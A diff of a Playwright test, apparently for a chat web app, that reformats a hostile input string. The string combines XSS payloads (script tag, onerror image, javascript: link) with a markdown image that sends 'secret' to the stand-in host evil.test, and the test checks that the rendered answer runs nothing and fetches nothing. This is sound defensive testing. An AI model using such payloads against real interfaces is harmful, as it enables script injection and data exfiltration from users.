@@ -139,8 +139,10 @@ def test_a_hostile_answer_runs_nothing_and_fetches_nothing(page: Page, world: di
     page.on("request", lambda r: outside.append(r.url) if not r.url.startswith(world["url"]) else None)
     open_chat(page, world)
     pick(page, QWEN)
-    hostile = ("<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3)) "
-               "![](http://evil.test/?q=secret)")
+    hostile = (
+        "<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3)) "
+        "![](http://evil.test/?q=secret)"
+    )
     send(page, hostile)
     expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=15_000)
     body = last_answer(page).locator(".body")
